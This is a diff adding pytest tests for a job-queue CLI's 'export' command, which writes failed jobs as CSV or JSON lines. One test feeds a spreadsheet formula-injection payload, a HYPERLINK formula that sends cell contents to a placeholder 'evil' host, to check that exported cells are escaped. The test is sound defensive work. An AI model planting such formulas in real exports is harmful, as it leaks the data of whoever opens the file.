@@ -1,0 +1,126 @@
+"""`export`: failed jobs as CSV and as JSON lines."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import stat
+import subprocess
+
+import pytest
+from harasocial_dispatch.cli import exporting
+from harasocial_dispatch.schemas import QueueUnavailable, State
+
+PAGE, OTHER_PAGE, RECIPIENT = "500725830264749", "600", "2560816460648749"
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_a_csv_has_a_row_for_each_failed_job(run, jobs):
+    """The latest first, with what a person looks for; jobs that did not fail are not in it."""
+    first = jobs.failed(metadata="order 1001, paid", idempotency_key="k-1")
+    second = jobs.failed("190", message='say "no"', page_id=OTHER_PAGE)
+    jobs.sent()
+    result = run("export")
+    assert (result.exit_code, result.stderr) == (0, "exported 2 jobs\n")
+    later, earlier = rows(result.stdout)
+    assert earlier == {
+        "job_id": first,
+        "failed_at": jobs.producer.get_job(first).as_json()["finished_at"],
+        "error_code": "10/2018278",
+        "error_message": "refused",
+        "http_status": "400",
+        "attempts": "1",
+        "page_id": PAGE,
+        "recipient_id": RECIPIENT,
+        "payload_id": jobs.producer.get_job(first).job["message"]["payload_id"],
+        "metadata": "order 1001, paid",
+        "idempotency_key": "k-1",
+        "enqueued_at": jobs.producer.get_job(first).as_json()["enqueued_at"],
+    }
+    assert (later["job_id"], later["error_message"], later["metadata"]) == (second, 'say "no"', "")
+
+
+def test_json_lines_are_what_show_prints(run, jobs):
+    """One whole record a line."""
+    ids = [jobs.failed(), jobs.failed()]
+    result = run("export", "--format", "jsonl")
+    lines = [json.loads(line) for line in result.stdout.splitlines()]
+    assert lines == [jobs.producer.get_job(job_id).as_json() for job_id in reversed(ids)]
+
+
+def test_the_filters_are_those_of_replay(run, jobs):
+    """By error code, page and time, alone and together."""
+    window = jobs.failed()
+    token = jobs.failed("190", page_id=OTHER_PAGE)
+
+    def exported(*options: str) -> set[str]:
+        return {row["job_id"] for row in rows(run("export", *options).stdout)}
+
+    assert exported("--error-code", "190") == {token}
+    assert exported("--page-id", PAGE) == {window}
+    assert exported("--page-id", PAGE, "--error-code", "190") == set()
+    assert exported("--since", "1h") == {window, token}
+    assert exported("--until", "1h") == set()
+    assert "exported 0 jobs" in run("export", "--until", "1h").stderr
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_no_cell_is_a_formula_to_a_spreadsheet(run, jobs, begin):
+    """What a customer put into metadata must not run on an accountant's machine."""
+    formula = f'{begin}HYPERLINK("http://evil/?"&A1)'
+    jobs.failed(message=formula, metadata=formula)
+    (row,) = rows(run("export").stdout)
+    assert row["metadata"] == f"'{formula}"
+    assert not row["error_message"].startswith(begin)
+
+
+def test_a_file_gets_its_name_once_it_is_whole(run, jobs, tmp_path, monkeypatch):
+    """Its kind follows from the name; only its owner may read it; a broken one does not stay."""
+    job_id = jobs.failed()
+    file = tmp_path / "failed.jsonl"
+    result = run("export", "-o", file)
+    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "exported 1 job\n")
+    assert json.loads(file.read_text())["job_id"] == job_id
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+
+    # when Redis goes away in the middle of the next one
+    def break_off(records):
+        raise QueueUnavailable("Redis did not answer")
+
+    monkeypatch.setattr(exporting, "json_lines", break_off)
+    assert run("export", "-o", file).exit_code == 4
+    assert json.loads(file.read_text())["job_id"] == job_id
+    assert [path.name for path in tmp_path.iterdir()] == ["failed.jsonl"]
+
+
+def test_it_goes_into_a_pipe_that_has_a_name(run, jobs, tmp_path):
+    """Such as `-o /dev/stderr`, or a fifo."""
+    jobs.failed()
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    with subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE, text=True) as reader:
+        assert run("export", "-o", fifo).exit_code == 0
+        assert len(rows(reader.stdout.read())) == 1
+    assert fifo.is_fifo()
+
+
+def test_a_folder_that_is_not_there_is_said(run, jobs, tmp_path):
+    """One line, and no traceback."""
+    result = run("export", "-o", tmp_path / "nowhere" / "a.csv")
+    assert result.exit_code == 1
+    assert "No such file or directory" in result.stderr
+    assert "nowhere" in result.stderr
+
+
+def test_thousands_are_written_as_they_are_read(run, jobs):
+    """None twice, none left out, over several pages of the listing."""
+    body = {"recipient": {"id": RECIPIENT}, "message": {"payload_id": "p"}}
+    report = jobs.producer.enqueue_many({**body, "page_id": str(i % 7 + 1)} for i in range(1200))
+    jobs.end(State.FAILED, "190")
+    exported = [row["job_id"] for row in rows(run("export").stdout)]
+    assert sorted(exported) == sorted(report.accepted)
